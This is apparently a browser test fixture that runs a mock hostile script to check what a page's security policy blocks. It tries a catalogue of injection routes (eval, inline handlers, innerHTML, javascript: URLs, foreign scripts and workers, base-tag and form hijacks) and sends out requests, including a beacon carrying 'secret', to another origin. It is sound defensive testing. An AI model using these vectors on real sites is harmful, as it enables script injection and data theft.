// A hostile script that runs in the page. It uses nothing outside itself. `window.won` lists what
// it achieved, `window.refused` what the browser refused, by an exception or a violation of the
// policy.

/**
 * `foreign`: address of another origin, with a slash at its end. `window.over` is true after all
 * attempts.
 *
 * @param {string} foreign
 */
export async function attack(foreign) {
  window.won = [];
  window.refused = [];
  addEventListener('securitypolicyviolation', (event) =>
    window.refused.push(event.violatedDirective),
  );
  /** @param {string} what */
  const win = (what) => `window.won.push(${JSON.stringify(what)})`;
  /**
   * @param {string} tag
   * @param {object} [values]
   * @param {Element} [parent]
   */
  const add = (tag, values = {}, parent = document.body) =>
    parent.append(Object.assign(document.createElement(tag), values));
  /**
   * @param {string} text
   * @param {string} [type]
   */
  const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
  /** @param {string} text */
  const data = (text) => `data:text/javascript,${encodeURIComponent(text)}`;
  /** @param {string} what */
  const answered = (what) => () => window.won.push(what);

  const fromText = () => ({
    'an inline script': () => add('script', { textContent: win('an inline script') }),
    'an inline handler': () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', win('an inline handler'));
      button.click();
    },
    'eval': () => (0, eval)(win('eval')),
    'a function from text': () => new Function(win('a function from text'))(),
    'a timer from text': () => setTimeout(win('a timer from text')),
    'markup by innerHTML': () => {
      document.body.appendChild(document.createElement('div')).innerHTML =
        `<img src="nothing" onerror='${win('markup by innerHTML')}'>`;
    },
    'markup by insertAdjacentHTML': () =>
      document.body.insertAdjacentHTML(
        'beforeend',
        `<img src="nothing" onerror='${win('markup by insertAdjacentHTML')}'>`,
      ),
    'markup by a range': () =>
      document.body.append(
        document
          .createRange()
          .createContextualFragment(`<script>${win('markup by a range')}</script>`),
      ),
    'a document in an attribute': () =>
      add('iframe', { srcdoc: `<script>parent.won.push('a document in an attribute')</script>` }),
  });

  const fromElsewhere = () => ({
    'a script from data:': () => add('script', { src: data(win('a script from data:')) }),
    'a script from blob:': () => add('script', { src: blob(win('a script from blob:')) }),
    'a script from elsewhere': () => add('script', { src: `${foreign}script.js` }),
    'a module from data:': () => import(data(win('a module from data:'))),
    'a module from blob:': () => import(blob(win('a module from blob:'))),
    'a module from elsewhere': () => import(`${foreign}module.js`),
    'a worker from blob:': () => {
      new Worker(blob('postMessage(1)')).onmessage = answered('a worker from blob:');
    },
    'a worker from elsewhere': () => {
      new Worker(`${foreign}worker.js`).onmessage = answered('a worker from elsewhere');
    },
  });

  const byAddress = () => ({
    'a javascript: link': () => {
      const link = document.createElement('a');
      link.href = `javascript:${win('a javascript: link')}`;
      document.body.append(link);
      link.click();
    },
    'a javascript: frame': () =>
      add('iframe', { src: `javascript:parent.won.push('a javascript: frame')` }),
    'a javascript: address': () => {
      location.href = `javascript:${win('a javascript: address')};void 0`;
    },
    'a style in the page': () => {
      add('style', { textContent: ':root{--attacked:1}' });
      if (getComputedStyle(document.documentElement).getPropertyValue('--attacked'))
        window.won.push('a style in the page');
    },
    'a style from elsewhere': () =>
      add('link', { rel: 'stylesheet', href: `${foreign}style.css` }, document.head),
  });

  const messages = () => ({
    'a request elsewhere': () =>
      fetch(`${foreign}fetch`, { mode: 'no-cors' }).then(answered('a request elsewhere')),
    'an old request elsewhere': () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${foreign}xhr`);
      request.send();
    },
    'a beacon': () => {
      navigator.sendBeacon(`${foreign}beacon`, 'secret');
    },
    'a socket': () => {
      new WebSocket(`${foreign.replace('http', 'ws')}socket`).onopen = answered('a socket');
    },
    'events from elsewhere': () => {
      new EventSource(`${foreign}events`).onmessage = answered('events from elsewhere');
    },
  });

  const files = () => ({
    'an image from elsewhere': () => {
      Object.assign(new Image(), { onload: answered('an image from elsewhere') }).src =
        `${foreign}image.svg`;
    },
    'a font from elsewhere': () =>
      new FontFace('Stolen', `url(${foreign}font.ttf)`)
        .load()
        .then(answered('a font from elsewhere')),
    'a sound from elsewhere': () => {
      new Audio(`${foreign}sound.ogg`).load();
    },
    'a frame from elsewhere': () => add('iframe', { src: `${foreign}frame.html` }),
    'an object from elsewhere': () => add('object', { data: `${foreign}object.html` }),
    'something fetched ahead': () =>
      add('link', { rel: 'prefetch', href: `${foreign}prefetch` }, document.head),
    'something loaded ahead': () =>
      add('link', { rel: 'preload', as: 'image', href: `${foreign}preload` }, document.head),
  });

  const turns = () => ({
    'another base': () => {
      add('base', { href: foreign }, document.head);
      if (document.baseURI.startsWith(foreign)) window.won.push('another base');
    },
    'a form sent elsewhere': () => {
      const form = document.createElement('form');
      Object.assign(form, { action: `${foreign}form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
    'a form sent home': () => {
      const form = document.createElement('form');
      form.action = 'form-sent-home';
      document.body.append(form);
      form.submit();
    },
    'a policy of its own': () => {
      if (!self.trustedTypes) throw new Error('there are none');
      self.trustedTypes.createPolicy('evil', /** @type {any} */ ({}));
      window.won.push('a policy of its own');
    },
  });

  const attempts = {
    ...fromText(),
    ...fromElsewhere(),
    ...byAddress(),
    ...messages(),
    ...files(),
    ...turns(),
  };
  for (const [what, attempt] of Object.entries(attempts)) {
    try {
      Promise.resolve(attempt()).catch(() => window.refused.push(what));
    } catch {
      window.refused.push(what);
    }
  }
  await new Promise((over) => {
    setTimeout(over, 1000);
  }); // waits for the asynchronous attempts
  window.over = true;
}
